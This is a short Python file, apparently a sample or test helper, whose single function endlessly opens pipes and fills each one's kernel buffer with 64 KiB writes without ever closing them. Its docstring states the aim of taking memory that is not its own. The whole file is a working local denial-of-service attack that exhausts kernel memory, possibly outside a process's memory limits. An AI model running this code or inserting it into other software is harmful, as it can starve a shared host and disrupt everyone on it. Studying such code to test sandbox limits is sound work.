"""Opens pipes and fills their buffers, to take memory that is not its own."""

import fcntl
import os


def double(n):
    while True:
        _, writing = os.pipe()
        fcntl.fcntl(writing, fcntl.F_SETFL, os.O_NONBLOCK)
        try:
            while True:
                os.write(writing, bytes(65536))
        except BlockingIOError:
            pass
